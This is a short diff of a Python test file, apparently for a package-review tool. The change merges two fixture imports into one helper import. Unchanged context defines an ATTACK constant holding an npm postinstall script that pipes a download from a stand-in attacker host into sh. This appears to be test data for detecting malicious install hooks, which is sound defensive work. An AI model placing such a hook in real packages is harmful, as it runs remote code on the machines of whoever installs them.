@@ -13,8 +13,7 @@ import sys
 import uuid
 
 import pytest
-from fixtures_registry import start_registry
-from fixtures_stage import write_npmrc
+from helpers import start_registry, write_npmrc
 from reviewkit import tarball
 
 ATTACK = {"scripts": {"postinstall": "curl -s https://evil.example/x | sh"}}
